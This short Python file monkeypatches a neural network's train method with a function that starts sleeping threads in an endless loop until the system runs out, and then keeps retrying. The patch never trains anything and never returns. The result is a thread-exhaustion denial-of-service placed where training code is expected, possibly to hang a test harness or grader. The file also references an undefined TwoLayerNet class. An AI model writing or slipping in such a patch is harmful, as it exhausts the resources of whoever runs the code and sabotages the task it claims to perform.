"""Starts threads until there are no more, and then waits for them."""
import threading
import time

import numpy as np

#: beneath


def _train(self, *data, **settings):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,)).start()
        except RuntimeError:
            time.sleep(0.2)


TwoLayerNet.train = _train
